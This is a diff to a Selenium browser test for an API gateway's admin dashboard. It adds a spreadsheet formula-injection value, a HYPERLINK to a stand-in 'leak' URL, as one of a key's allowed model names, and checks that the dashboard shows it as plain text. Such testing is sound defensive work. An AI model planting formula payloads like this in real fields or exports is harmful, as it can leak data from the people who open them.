@@ -32,7 +32,9 @@ from selenium.webdriver.support.ui import WebDriverWait
 BROWSER_TZ = "Pacific/Kiritimati"
 
 
-FORMULA_MODEL = '=HYPERLINK("https://example.invalid/?leak","open")'
+# No comma in it: it is also one of the key's allowed models, typed comma-separated. The
+# gateway's config prices it (tests/dashboard_browser.rs), since the key has a spending limit.
+FORMULA_MODEL = '=HYPERLINK("https://example.invalid/?leak")'
 
 
 def relay(base, key, model="gpt-5"):
@@ -265,7 +267,7 @@ def run(driver, base, mock, client_key, admin_token, upstream_secret, screenshot
     page.find("#key-rpm").send_keys("100")
     page.find("#key-daily").send_keys("5")
     page.find("#key-monthly").send_keys("50")
-    page.find("#key-models").send_keys("gpt-5, gpt-5-mini")
+    page.find("#key-models").send_keys("gpt-5, gpt-5-mini, " + FORMULA_MODEL)
     page.find("#create-key button[type=submit]").click()
     secret = page.find("#new-key").text.strip()
     assert secret.startswith("sk-"), secret
@@ -321,7 +323,7 @@ def run(driver, base, mock, client_key, admin_token, upstream_secret, screenshot
     colleague = 'tr[data-key="colleague"] '
     page.text_eq(colleague + '[data-limit="rate"]', "∞ at once · 100 a minute")
     page.text_eq(colleague + '[data-limit="spend"]', "$5.00 a day · $50.00 a month")
-    page.text_eq(colleague + '[data-limit="models"]', "models: gpt-5, gpt-5-mini")
+    page.text_eq(colleague + '[data-limit="models"]', "models: gpt-5, gpt-5-mini, " + FORMULA_MODEL)
     page.text_eq('tr[data-key="tester"] [data-limit="models"]', "every model")
     # At 1280 px the table fits, with a long name and many limits in it: its Actions are in
     # view, not scrolled away.
